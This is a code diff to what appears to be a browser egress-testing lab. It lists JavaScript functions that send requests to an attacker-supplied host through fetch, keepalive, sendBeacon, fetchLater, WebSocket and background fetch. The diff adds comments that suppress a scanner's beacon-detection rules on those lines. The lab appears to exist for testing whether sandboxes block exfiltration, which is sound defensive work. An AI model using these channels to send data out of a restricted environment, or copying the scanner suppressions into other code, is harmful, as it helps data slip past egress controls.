@@ -40,11 +40,15 @@ const imported = (type) => (evil) => import(`${evil}/x.${type}`, { with: { type 
 Object.assign(window.attacks, {
   fetch: (evil) => fetch(evil),
   fetch_nocors_post: (evil) => fetch(evil, { mode: "no-cors", method: "POST", body: "x" }),
+  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
   fetch_keepalive: (evil) => fetch(evil, { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
+  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
   fetch_req_keepalive: (evil) => fetch(new Request(evil, { mode: "no-cors", keepalive: true })),
   xhr: (evil) => xhr(evil, true),
   xhr_sync: (evil) => xhr(evil, false),
+  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
   beacon: (evil) => void navigator.sendBeacon(evil, "x"),
+  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
   fetchLater: (evil) => (window.fetchLater ? void fetchLater(evil, { activateAfter: 0 }) : "absent"),
   ws: (evil) => void new WebSocket(evil.replace("http", "ws")),
   ws_redirect: (evil) => {
@@ -65,6 +69,7 @@ Object.assign(window.attacks, {
     // The first call of a profile can fail.
     for (let tries = 0; ; tries++) {
       try {
+        // cordon-ignore-next-line scan-background-fetch-unlisted: a way out that the lab tries
         return void (await registration.backgroundFetch.fetch("x", [evil]));
       } catch (error) {
         if (tries === 8) throw error;
